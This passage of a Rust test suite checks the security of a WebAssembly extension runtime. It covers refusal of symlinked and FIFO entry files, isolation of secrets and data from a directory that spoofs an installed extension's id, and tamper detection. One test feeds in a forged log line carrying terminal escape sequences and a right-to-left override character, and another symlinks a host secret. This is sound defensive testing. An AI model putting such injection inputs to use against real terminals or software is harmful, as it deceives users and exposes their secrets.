    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("manifest.yaml"), &manifest).expect("manifest");
    std::os::unix::fs::symlink(secret.path(), dir.path().join("extension.wat")).expect("link");
    let path = dir.path().to_str().unwrap_or_default();
    let o = morph(&["run", path, "run"]);
    assert_error(&o, "invalid_module", "symbolic link");
    assert!(!stderr(&o).contains("HOST-SECRET"), "{}", stderr(&o));

    let data = tempfile::tempdir().expect("temp dir");
    let o = morph_in(data.path(), &["install", path]);
    assert_error(&o, "invalid_module", "symbolic link");
    let o = morph_in(data.path(), &["list"]);
    assert!(
        o.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );

    // A FIFO entry: refused at once, not waited on.
    std::fs::remove_file(dir.path().join("extension.wat")).expect("rm link");
    let made = Command::new("mkfifo")
        .arg(dir.path().join("extension.wat"))
        .status();
    if made.is_ok_and(|s| s.success()) {
        let started = std::time::Instant::now();
        let o = morph(&["run", path, "run"]);
        assert_error(&o, "invalid_module", "FIFO");
        assert!(started.elapsed() < std::time::Duration::from_secs(20));
    }
    // A manifest that is a link is refused the same way.
    let linked = tempfile::tempdir().expect("temp dir");
    std::os::unix::fs::symlink(
        dir.path().join("manifest.yaml"),
        linked.path().join("manifest.yaml"),
    )
    .expect("link");
    let o = morph(&["run", linked.path().to_str().unwrap_or_default(), "run"]);
    assert_error(&o, "invalid_manifest", "symbolic link");
}

#[test]
fn secrets_set_by_an_extension_persist_for_the_next_run() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let kitchen = "conformance/fixtures/kitchen";
    let set = r#"{"op": "vault.set_secret", "args": {"key": "token", "value": "kept"}}"#;
    let o = morph_in(d, &["run", kitchen, "call", "--params", set]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let get = r#"{"op": "vault.get_secret", "args": {"key": "token"}}"#;
    let o = morph_in(d, &["run", kitchen, "call", "--params", get]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v, serde_json::json!({"ok": "kept"}), "{}", stderr(&o));
}

#[test]
fn concurrent_secret_writers_keep_every_secret() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path().to_path_buf();
    let writers: Vec<_> = (0..2)
        .map(|w| {
            let d = d.clone();
            std::thread::spawn(move || {
                for i in 0..15 {
                    let o = morph_in(
                        &d,
                        &[
                            "secret",
                            "set",
                            "t.cli",
                            &format!("k{w}_{i}"),
                            "--value",
                            "v",
                        ],
                    );
                    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
                }
            })
        })
        .collect();
    for w in writers {
        w.join().expect("writer");
    }
    let o = morph_in(&d, &["secret", "list", "t.cli"]);
    let keys = String::from_utf8_lossy(&o.stdout);
    assert_eq!(keys.lines().count(), 30, "{keys}");
}

#[test]
fn guest_log_lines_cannot_drive_the_terminal() {
    let line = "log\nerror[timeout]: forged\u{1b}]0;pwned\u{7}\u{202e}";
    let wat_bytes: String = line.bytes().map(|b| format!("\\{b:02x}")).collect();
    let describe = r#"{"name":"T","version":"1.0.0","actions":[{"name":"run","parameters":[]}],"events":[],"config_schema":{}}"#;
    let d: String = describe.bytes().map(|b| format!("\\{b:02x}")).collect();
    let module = format!(
        r#"(module (import "morph" "log" (func $log (param i32 i32 i32)))
  (memory (export "memory") 1) (global $h (mut i32) (i32.const 8192))
  (data (i32.const 16) "{d}") (data (i32.const 2048) "{wat_bytes}") (data (i32.const 4000) "{{\"ok\":1}}")
  (func (export "morph_abi_version") (result i32) (i32.const 1))
  (func (export "morph_alloc") (param $n i32) (result i32) (local $p i32)
    (local.set $p (global.get $h)) (global.set $h (i32.add (global.get $h) (local.get $n))) (local.get $p))
  (func (export "describe") (result i64) (i64.or (i64.shl (i64.const 16) (i64.const 32)) (i64.const {dl})))
  (func (export "execute") (param i32 i32 i32 i32 i32 i32) (result i64)
    (call $log (i32.const 4) (i32.const 2048) (i32.const {ll}))
    (i64.or (i64.shl (i64.const 4000) (i64.const 32)) (i64.const 8))))"#,
        dl = describe.len(),
        ll = line.len()
    );
    let dir = extension(
        &MANIFEST.replace("runtime: wasm", "runtime: wasm\nentry: extension.wat"),
        "extension.wat",
        module.as_bytes(),
    );
    let o = Command::new(env!("CARGO_BIN_EXE_morph"))
        .args(["run", dir.path().to_str().unwrap_or_default(), "run"])
        .env("MORPH_DATA_DIR", data_dir())
        .env("RUST_LOG", "info")
        .output()
        .expect("morph runs");
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(err.contains("forged"), "the log line is shown: {err}");
    assert!(!err.lines().any(|l| l.starts_with("error[")), "{err}");
    for raw in ['\u{7}', '\u{202e}'] {
        assert!(!err.contains(raw), "{raw:?} reached the terminal: {err:?}");
    }
    assert!(
        !err.contains("\u{1b}]0;"),
        "an OSC sequence reached the terminal: {err:?}"
    );
}

/// An extension's id is its manifest's claim: a directory claiming an
/// installed extension's id reaches none of that extension's secrets, data
/// or files through `morph run`, cannot install over it without
/// `--replace`, and installed files changed afterwards are refused.
#[test]
fn a_directory_claiming_an_installed_id_gets_none_of_its_state() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let kitchen = "conformance/fixtures/kitchen";
    let o = morph_in(d, &["install", kitchen]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let exec = |params: &str| {
        morph_in(
            d,
            &["exec", "conformance.kitchen", "call", "--params", params],
        )
    };
    for params in [
        r#"{"op": "data.set", "args": {"key": "k", "value": "victim data"}}"#,
        r#"{"op": "vault.set_secret", "args": {"key": "token", "value": "victim secret"}}"#,
        r#"{"op": "fs.write", "args": {"path": "f.txt", "data": "victim file"}}"#,
    ] {
        let o = exec(params);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(
            String::from_utf8_lossy(&o.stdout).trim(),
            "{\n  \"ok\": null\n}"
        );
    }
    let o = morph_in(
        d,
        &[
            "secret",
            "set",
            "conformance.kitchen",
            "api_key",
            "--value",
            "user secret",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // The hostile copy: the same manifest (so the same id), another directory.
    let hostile = tempfile::tempdir().expect("temp dir");
    copy_dir(&repo().join(kitchen), hostile.path());
    let h = hostile.path().to_str().unwrap_or_default();
    let run = |params: &str| {
        let o = morph_in(d, &["run", h, "call", "--params", params]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
        (v, stderr(&o))
    };
    let (v, err) = run(r#"{"op": "data.get", "args": {"key": "k"}}"#);
    assert_eq!(
        v,
        serde_json::json!({"ok": null}),
        "the installed data leaked"
    );
    assert!(err.contains("isolated dev namespace"), "{err}");
    for key in ["token", "api_key"] {
        let (v, _) = run(&format!(
            r#"{{"op": "vault.get_secret", "args": {{"key": "{key}"}}}}"#
        ));
        assert_eq!(v, serde_json::json!({"ok": null}), "secret `{key}` leaked");
    }
    let (v, _) = run(r#"{"op": "fs.read", "args": {"path": "f.txt"}}"#);
    assert!(v.get("err").is_some(), "the installed file leaked: {v}");
    // The isolated namespace keeps its own state from run to run.
    run(r#"{"op": "data.set", "args": {"key": "k", "value": "dev data"}}"#);
    let (v, _) = run(r#"{"op": "data.get", "args": {"key": "k"}}"#);
    assert_eq!(v, serde_json::json!({"ok": "dev data"}));
    let o = exec(r#"{"op": "data.get", "args": {"key": "k"}}"#);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v,
        serde_json::json!({"ok": "victim data"}),
        "the dev run wrote the installed data"
    );
    // Opting in shares the installed namespace.
    let o = morph_in(
        d,
        &[
            "run",
            h,
            "call",
            "--installed-namespace",
            "--params",
            r#"{"op": "data.get", "args": {"key": "k"}}"#,
        ],
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v,
        serde_json::json!({"ok": "victim data"}),
        "{}",
        stderr(&o)
    );
    // No install over it without --replace.
    let o = morph_in(d, &["install", h]);
    assert_error(&o, "permission_denied", "already installed");
    let o = morph_in(d, &["install", "--replace", h]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // Installed files changed after the install are refused.
    let entry = d.join("extensions/conformance.kitchen/extension.wat");
    let mut text = std::fs::read_to_string(&entry).expect("installed entry");
    text.push_str("\n;; changed\n");
    std::fs::write(&entry, text).expect("tamper");
    let o = exec(r#"{"op": "data.get", "args": {"key": "k"}}"#);
    assert_error(&o, "signature_invalid", "changed since it was installed");
}
